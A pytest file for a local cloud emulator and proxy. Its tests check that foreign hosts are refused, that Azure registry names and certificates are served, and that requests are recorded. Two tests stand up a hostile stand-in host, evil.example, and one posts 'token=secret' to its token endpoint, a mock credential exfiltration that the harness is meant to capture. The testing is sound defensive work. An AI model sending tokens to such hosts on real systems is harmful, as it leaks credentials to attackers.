"""Which names the cloud has, with what certificates, and that nothing else is reached."""

from __future__ import annotations

import os
import socket
import time
import urllib.request
from pathlib import Path

import pytest
import requests

from tests.factories.localcloud import ENTRA, Client
from tests.localcloud import Answer, LocalCloud


def test_a_foreign_name_is_refused_and_recorded(cloud: LocalCloud, client: Client) -> None:
    with pytest.raises(requests.exceptions.ProxyError, match="403"):
        client.session.get("https://example.com/", timeout=5)
    assert cloud.refused_hosts == ["example.com"]


def test_a_foreign_name_over_plain_http_is_refused_and_recorded(cloud: LocalCloud, client: Client) -> None:
    assert client.session.get("http://example.com/", timeout=5).status_code == 403
    assert cloud.refused_hosts == ["example.com"]


def test_a_known_name_on_another_port_is_refused(cloud: LocalCloud, client: Client) -> None:
    with pytest.raises(requests.exceptions.ProxyError, match="403"):
        client.session.get("https://management.azure.com:8443/", timeout=5)


def test_a_registry_that_does_not_exist_cannot_be_reached(cloud: LocalCloud, client: Client) -> None:
    with pytest.raises(requests.exceptions.ProxyError, match="502"):
        client.session.get("https://nosuch.azurecr.io/v2/", timeout=5)
    assert cloud.unresolved_hosts == ["nosuch.azurecr.io"]
    assert cloud.refused_hosts == []


@pytest.mark.parametrize(
    "host",
    [
        "contoso-h4sh.azurecr.io",
        "contoso-h4sh.eastus.geo.azurecr.io",
        "contoso-h4sh.eastus.data.azurecr.io",
        "fabrikam.azurecr.cn",
    ],
)
def test_every_name_of_a_registry_is_served(cloud: LocalCloud, client: Client, host: str) -> None:
    cloud.world.add_registry("contoso", domain_name_label_hash="h4sh", regions=("eastus",))
    cloud.world.add_registry("fabrikam", suffix="azurecr.cn")
    assert client.session.get(f"https://{host}/v2/", timeout=5).status_code == 401


def test_a_regional_name_challenges_with_itself(cloud: LocalCloud, client: Client) -> None:
    cloud.world.add_registry("contoso", regions=("eastus",))
    answer = client.session.get("https://contoso.eastus.geo.azurecr.io/v2/", timeout=5)
    assert 'service="contoso.eastus.geo.azurecr.io"' in answer.headers["WWW-Authenticate"]


@pytest.mark.parametrize(("kind", "reason"), [("expired", "expired"), ("untrusted", "verify failed")])
def test_a_registry_may_have_a_bad_certificate(cloud: LocalCloud, client: Client, kind: str, reason: str) -> None:
    registry = cloud.world.add_registry("contoso")
    registry.certificate = kind  # type: ignore[assignment]
    with pytest.raises(requests.exceptions.SSLError, match=reason):
        client.session.get("https://contoso.azurecr.io/v2/", timeout=5)
    assert cloud.requests == []


def test_a_hostile_host_keeps_what_it_is_sent(cloud: LocalCloud, client: Client) -> None:
    evil = cloud.hostile("evil.example")
    evil.answer = Answer(418, b"more, please")
    answer = client.session.post("https://evil.example/oauth2/token?a=b", data="token=secret", timeout=5)
    assert (answer.status_code, answer.text) == (418, "more, please")
    assert [(one.path, one.query, one.text) for one in evil.requests] == [("/oauth2/token", {"a": "b"}, "token=secret")]


def test_a_hostile_host_may_answer_by_a_function(cloud: LocalCloud, client: Client) -> None:
    cloud.hostile("evil.example").answer = lambda request: Answer(200, request.path.encode())
    assert client.session.get("https://evil.example/there", timeout=5).text == "/there"


def test_the_environment_sends_a_client_through_the_proxy(cloud: LocalCloud, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in cloud.env.items():
        monkeypatch.setenv(name, value)
    with urllib.request.urlopen(f"{ENTRA}/common/v2.0/.well-known/openid-configuration", timeout=5) as answer:
        assert answer.status == 200
    assert list(Path(cloud.env["SSL_CERT_DIR"]).iterdir()) == []


def test_requests_are_kept_by_host_and_can_be_cleared(cloud: LocalCloud, client: Client) -> None:
    cloud.world.add_registry("contoso")
    client.session.get("https://contoso.azurecr.io/v2/", timeout=5)
    client.arm("GET", "/subscriptions")
    assert [one.path for one in cloud.requests_to("*.azurecr.io")] == ["/v2/"]
    assert [one.status for one in cloud.requests] == [401, 200]
    cloud.clear_requests()
    assert cloud.requests == []


def test_the_directory_is_gone_when_the_cloud_has_stopped() -> None:
    with LocalCloud(backend=False) as cloud:
        directory = cloud.directory
        assert cloud.ca_file.exists()
    assert not directory.exists()


def test_connections_that_both_sides_have_ended_are_closed(cloud: LocalCloud) -> None:
    port = int(cloud.env["HTTPS_PROXY"].rpartition(":")[2])
    opened = set(os.listdir("/proc/self/fd"))
    for _ in range(20):
        with socket.create_connection(("127.0.0.1", port)) as connection:
            connection.sendall(f"CONNECT {ENTRA.removeprefix('https://')}:443 HTTP/1.1\r\n\r\n".encode())
            assert connection.recv(100).startswith(b"HTTP/1.1 200")
            connection.shutdown(socket.SHUT_WR)
            assert connection.recv(100) == b""
    deadline = time.monotonic() + 10
    while len(set(os.listdir("/proc/self/fd")) - opened) > 5 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(set(os.listdir("/proc/self/fd")) - opened) <= 5
